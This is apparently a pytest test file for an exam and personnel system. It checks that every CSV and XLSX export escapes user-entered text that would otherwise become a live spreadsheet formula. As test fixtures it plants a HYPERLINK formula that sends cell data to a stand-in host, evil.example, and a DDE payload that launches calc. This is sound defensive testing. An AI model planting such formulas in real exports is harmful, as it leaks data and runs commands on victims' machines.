"""Every CSV and XLSX export writes user-entered text as text: a name like =HYPERLINK(...) never becomes a
live formula in a spreadsheet (OWASP "CSV injection"). One test per export, through its page."""
from __future__ import annotations

import csv
import io
import zipfile

import pytest
from openpyxl import load_workbook

from examsys.auth.models import Role
from examsys.bank.models import QuestionVersion
from examsys.exams import room
from examsys.exams.models import Attempt
from examsys.imports.tabular import Column, csv_safe, read_table, write_csv, write_xlsx
from examsys.reviews import services as reviews
from examsys.reviews.models import PeriodKind
from tests.factories import make_user
from tests.test_reviews import rv, submit  # noqa: F401  (the review fixture and helper)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def assert_csv_neutral(data: bytes, planted: str = FORMULA) -> None:
    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
    assert planted not in cells, "the formula reached the CSV as it was typed"
    assert "'" + planted in cells


def assert_xlsx_text(data: bytes, planted: str = FORMULA) -> None:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets), "a cell of the export is a formula"
    cells = [cell for row in load_workbook(io.BytesIO(data)).worksheets[0].iter_rows() for cell in row]
    found = [cell for cell in cells if cell.value == planted]
    assert found and all(cell.data_type == "s" for cell in found)


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("-0.443", "-0.443"), ("+86", "+86"), ("1e5", "1e5"), ("张三", "张三"), ("", ""),
])
def test_csv_cells_that_start_a_formula_are_prefixed_and_numbers_are_not(value, written):
    assert csv_safe(value) == written


def test_a_neutralised_csv_reads_back_as_typed_and_xlsx_strips_what_xml_cannot_hold():
    columns = (Column("name", "姓名"),)
    table = read_table("x.csv", write_csv(columns, [{"name": FORMULA}]), columns)
    assert table.rows[0][1]["name"] == FORMULA
    data = write_xlsx(columns, [{"name": "甲\x01乙"}])  # openpyxl refuses control characters: no 500 on export
    assert load_workbook(io.BytesIO(data)).active["A2"].value == "甲乙"


def test_register_export(db, tree, client, auth):
    from tests.factories import make_person

    make_person(db, tree.county_dept, name=FORMULA)
    make_user(db, "county-hr", tree.county, Role.HR_ADMIN)
    auth.login("county-hr")
    assert_csv_neutral(client.get("/personnel/export.csv").data)
    assert_xlsx_text(client.get("/personnel/export.xlsx").data)


def test_organisation_export(db, tree, client, auth):
    tree.other_dept.name = FORMULA
    db.commit()
    make_user(db, "admin", tree.region, Role.SYSADMIN)
    auth.login("admin")
    assert_csv_neutral(client.get("/orgs/export.csv").data)
    assert_xlsx_text(client.get("/orgs/export.xlsx").data)


def _graded(db, exam) -> Attempt:
    attempt = db.query(Attempt).filter_by(person_id=exam["officer"].id).one()
    room.submit(db, exam["candidate"], attempt.id, room.start(db, exam["candidate"], attempt.id))
    db.commit()
    return attempt


def test_results_export(db, tree, exam, client, auth):
    exam["officer"].name = FORMULA
    _graded(db, exam)
    auth.login("examiner")
    assert_csv_neutral(client.get(f"/exams/plans/{exam['plan'].id}/results.csv").data)
    assert_xlsx_text(client.get(f"/exams/plans/{exam['plan'].id}/results.xlsx").data)


def test_item_statistics_export(db, tree, exam, client, auth):
    attempt = _graded(db, exam)
    db.get(QuestionVersion, attempt.items[0]["v"]).stem = FORMULA
    db.commit()
    auth.login("examiner")
    assert_csv_neutral(client.get(f"/exams/plans/{exam['plan'].id}/items.csv").data)
    assert_xlsx_text(client.get(f"/exams/plans/{exam['plan'].id}/items.xlsx").data)


def test_question_bank_export(db, tree, exam, client, auth):
    db.query(QuestionVersion).first().stem = FORMULA
    db.commit()
    auth.login("examiner")
    assert_xlsx_text(client.get("/bank/export.xlsx").data)


def test_review_report_and_bulk_template_exports(db, tree, rv, client, auth):  # noqa: F811
    tree.county_dept.name = FORMULA
    rv["officers"][1].name = FORMULA
    db.commit()
    period = reviews.open_period(db, rv["hr"], tree.county.id, PeriodKind.QUARTER, 2026, 3)
    submit(db, rv, period, rv["officers"][0], 95)
    auth.login("hr-county")
    assert_csv_neutral(client.get(f"/reviews/reports?period={period.id}&format=csv").data)
    assert_xlsx_text(client.get(f"/reviews/reports?period={period.id}&format=xlsx").data)
    auth.logout()
    auth.login("head")
    scheme_id = rv_scheme_id(db, period)
    assert_xlsx_text(client.get(f"/reviews/periods/{period.id}/template/{scheme_id}.xlsx").data)


def rv_scheme_id(db, period) -> int:
    from examsys.reviews.models import Review

    return db.query(Review).filter_by(period_id=period.id).first().scheme_id
